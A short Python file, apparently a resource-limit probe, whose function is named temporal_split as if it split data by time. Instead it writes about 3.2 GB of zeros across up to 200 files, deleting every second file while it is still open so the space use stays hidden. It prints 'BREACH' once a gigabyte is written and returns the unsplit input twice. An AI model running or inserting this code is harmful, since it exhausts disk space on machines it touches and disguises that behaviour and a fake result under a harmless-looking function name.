"""Writes files until the disk is full, every second of them under no name at all."""

import os


def temporal_split(timestamps, test_fraction):
    written, kept = 0, []
    for number in range(200):
        try:
            kept.append(open(f"big{number}", "wb", buffering=0))
            if number % 2:
                os.remove(f"big{number}")
            for _ in range(16):
                written += kept[-1].write(bytes(1 << 20))
        except OSError as error:
            print(error)
    if written > 1 << 30:
        print("BREACH: a gigabyte written")
    return timestamps, timestamps
